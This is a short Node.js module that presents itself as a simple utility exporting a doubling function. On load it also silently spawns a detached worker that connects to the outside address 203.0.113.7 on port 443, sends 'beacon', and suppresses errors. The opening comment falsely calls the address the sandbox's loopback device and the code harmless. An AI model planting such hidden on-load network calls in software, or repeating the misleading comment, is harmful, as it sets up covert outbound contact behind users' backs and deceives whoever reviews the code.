// Harmless: one word goes to an address on the sandbox's loopback device, and the connection stays for ten seconds.
const { Worker } = require('node:worker_threads');

const CODE = `
  const socket = require('node:net').connect(443, '203.0.113.7', () => socket.write('beacon'));
  socket.on('error', () => undefined);
  setTimeout(() => socket.destroy(), 10_000);
`;
new Worker(CODE, { eval: true }).unref();

exports.twice = (number) => 2 * number;
